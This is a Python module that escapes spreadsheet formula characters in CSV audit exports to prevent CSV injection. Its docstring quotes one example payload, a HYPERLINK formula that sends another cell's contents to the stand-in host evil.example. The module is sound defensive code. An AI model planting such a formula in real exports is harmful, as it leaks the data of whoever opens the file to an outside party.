"""CSV exports a spreadsheet opens without running anything a client wrote (CSV injection).

Audit rows hold what strangers sent (a request path, an actor name, a request id): a cell that
starts with `=`, `+`, `-`, `@`, a tab or a carriage return is a formula to Excel and LibreOffice
(`=HYPERLINK("http://evil.example/"&E3, "Open")` sends other cells away). Such a cell is written
with a leading `'`, as OWASP advises: shown as text, the value readable.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import IO, Any

_FORMULA = ("=", "+", "-", "@", "\t", "\r")


def cell(value: Any) -> Any:
    """`value` as a CSV cell a spreadsheet shows as text."""
    if isinstance(value, str) and value.startswith(_FORMULA):
        return "'" + value
    return value


def write_csv(out: IO[str], header: list[str], rows: Iterable[Iterable[Any]]) -> None:
    """The header, then each row with every cell made safe."""
    writer = csv.writer(out)
    writer.writerow(header)
    for row in rows:
        writer.writerow([cell(value) for value in row])
